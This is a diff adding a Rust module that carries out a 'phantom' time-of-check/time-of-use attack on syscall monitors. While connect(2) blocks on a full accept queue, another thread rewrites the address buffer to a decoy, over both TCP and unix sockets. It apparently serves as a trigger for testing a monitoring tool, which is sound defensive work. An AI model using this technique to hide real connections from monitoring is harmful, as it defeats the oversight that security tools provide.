@@ -1,0 +1,174 @@
+//! Connects whose address buffer another thread rewrites while the call is blocked: the
+//! "phantom" attack on syscall monitors. The kernel connects to the address it copied at entry;
+//! a monitor that reads the caller's buffer when the syscall returns reports the decoy instead.
+//!
+//! The call is made to block by a full accept queue (the listener's backlog is 0 and one
+//! connection already waits in it). While it blocks, a second thread writes the decoy into the
+//! buffer, then accepts the waiting connection; the blocked connect then gets in and returns 0.
+
+use std::net::SocketAddrV4;
+use std::thread;
+use std::time::Duration;
+
+/// How long the connect may block before the kernel gives up (SO_SNDTIMEO).
+const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
+/// When the decoy is written, and then when the waiting connection is accepted.
+const REWRITE_AFTER: Duration = Duration::from_millis(100);
+const ACCEPT_AFTER: Duration = Duration::from_millis(100);
+
+/// A raw pointer the rewriting thread may write through while `connect` blocks.
+struct Buffer<T>(*mut T);
+// SAFETY: the pointee outlives the thread (joined before it is freed), and the only other user
+// is the kernel, which copied it at syscall entry.
+unsafe impl<T> Send for Buffer<T> {}
+
+/// connect(2) to `target` (an IPv4 `addr:port` nobody listens on yet), with the buffer
+/// rewritten to `decoy` while it blocks. Returns connect's result.
+pub fn tcp(target: &str, decoy: &str) -> i64 {
+    let target: SocketAddrV4 = target.parse().expect("target IPv4 address:port");
+    let decoy: SocketAddrV4 = decoy.parse().expect("decoy IPv4 address:port");
+    let listener = listening_socket(libc::AF_INET, &sockaddr_in(target));
+    // Fills the accept queue: the next SYN is dropped until this one is accepted.
+    let _waiting = std::net::TcpStream::connect(target).expect("first connection");
+    let fd = blocking_socket(libc::AF_INET);
+    let mut buffer = Box::new(sockaddr_in(target));
+    let rewrite = Buffer(&mut *buffer as *mut libc::sockaddr_in);
+    let rewriter = thread::spawn(move || {
+        let rewrite = rewrite;
+        thread::sleep(REWRITE_AFTER);
+        // SAFETY: see Buffer; a volatile write, as the kernel is the only other reader.
+        unsafe { std::ptr::write_volatile(rewrite.0, sockaddr_in(decoy)) };
+        thread::sleep(ACCEPT_AFTER);
+        accept_one(listener);
+    });
+    let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
+    // SAFETY: fd is our socket, and the buffer holds a sockaddr_in of len bytes.
+    let ret = unsafe { libc::connect(fd, (&*buffer as *const libc::sockaddr_in).cast(), len) };
+    let ret = result(ret);
+    rewriter.join().expect("rewriting thread");
+    close(fd);
+    close(listener);
+    ret
+}
+
+/// The same over a unix stream socket: connect to `path`, rewritten to `decoy` (a path no
+/// longer than `path`) while it blocks.
+pub fn unix(path: &str, decoy: &str) -> i64 {
+    assert!(
+        decoy.len() <= path.len(),
+        "the decoy must fit where the path is"
+    );
+    let listener = listening_socket(libc::AF_UNIX, &sockaddr_un(path));
+    let _waiting = std::os::unix::net::UnixStream::connect(path).expect("first connection");
+    let fd = blocking_socket(libc::AF_UNIX);
+    let mut buffer = Box::new(sockaddr_un(path));
+    let rewrite = Buffer(&mut *buffer as *mut libc::sockaddr_un);
+    let decoy = sockaddr_un(decoy);
+    let rewriter = thread::spawn(move || {
+        let rewrite = rewrite;
+        thread::sleep(REWRITE_AFTER);
+        // SAFETY: see Buffer.
+        unsafe { std::ptr::write_volatile(rewrite.0, decoy) };
+        thread::sleep(ACCEPT_AFTER);
+        accept_one(listener);
+    });
+    // The original length: the decoy (NUL-padded) fits in it.
+    let len = (std::mem::size_of::<libc::sa_family_t>() + path.len() + 1) as libc::socklen_t;
+    // SAFETY: fd is our socket, and the buffer holds a sockaddr_un of at least len bytes.
+    let ret = unsafe { libc::connect(fd, (&*buffer as *const libc::sockaddr_un).cast(), len) };
+    let ret = result(ret);
+    rewriter.join().expect("rewriting thread");
+    close(fd);
+    close(listener);
+    let _ = std::fs::remove_file(path);
+    ret
+}
+
+fn sockaddr_in(addr: SocketAddrV4) -> libc::sockaddr_in {
+    libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: addr.port().to_be(),
+        sin_addr: libc::in_addr {
+            s_addr: u32::from(*addr.ip()).to_be(),
+        },
+        sin_zero: [0; 8],
+    }
+}
+
+fn sockaddr_un(path: &str) -> libc::sockaddr_un {
+    // SAFETY: sockaddr_un is plain data; all zeroes is a valid (empty) value.
+    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
+    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
+    assert!(
+        path.len() < addr.sun_path.len(),
+        "unix socket path too long"
+    );
+    for (slot, byte) in addr.sun_path.iter_mut().zip(path.bytes()) {
+        *slot = byte as libc::c_char;
+    }
+    addr
+}
+
+/// A stream socket bound to `addr`, listening with a backlog of 0 (one waiting connection fills
+/// its queue).
+fn listening_socket<T>(family: libc::c_int, addr: &T) -> libc::c_int {
+    // SAFETY: plain socket calls on a socket this function creates; addr is a sockaddr of
+    // size_of::<T>() bytes.
+    unsafe {
+        let fd = libc::socket(family, libc::SOCK_STREAM, 0);
+        assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
+        let len = std::mem::size_of::<T>() as libc::socklen_t;
+        let bound = libc::bind(fd, (addr as *const T).cast(), len);
+        assert_eq!(bound, 0, "bind: {}", std::io::Error::last_os_error());
+        assert_eq!(
+            libc::listen(fd, 0),
+            0,
+            "listen: {}",
+            std::io::Error::last_os_error()
+        );
+        fd
+    }
+}
+
+/// A stream socket whose connect blocks for at most CONNECT_TIMEOUT.
+fn blocking_socket(family: libc::c_int) -> libc::c_int {
+    let timeout = libc::timeval {
+        tv_sec: CONNECT_TIMEOUT.as_secs() as libc::time_t,
+        tv_usec: 0,
+    };
+    // SAFETY: a new socket and a timeval of the size passed.
+    unsafe {
+        let fd = libc::socket(family, libc::SOCK_STREAM, 0);
+        assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
+        let set = libc::setsockopt(
+            fd,
+            libc::SOL_SOCKET,
+            libc::SO_SNDTIMEO,
+            (&timeout as *const libc::timeval).cast(),
+            std::mem::size_of::<libc::timeval>() as libc::socklen_t,
+        );
+        assert_eq!(set, 0, "SO_SNDTIMEO: {}", std::io::Error::last_os_error());
+        fd
+    }
+}
+
+fn accept_one(listener: libc::c_int) {
+    // SAFETY: accept on our listening socket, without asking for the peer's address.
+    let fd = unsafe { libc::accept(listener, std::ptr::null_mut(), std::ptr::null_mut()) };
+    assert!(fd >= 0, "accept: {}", std::io::Error::last_os_error());
+    close(fd);
+}
+
+fn close(fd: libc::c_int) {
+    // SAFETY: closes a descriptor this module opened and no longer uses.
+    unsafe { libc::close(fd) };
+}
+
+/// A libc return value as nj-trigger prints it: the value, or -errno.
+fn result(ret: libc::c_int) -> i64 {
+    if ret < 0 {
+        -i64::from(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
+    } else {
+        i64::from(ret)
+    }
+}
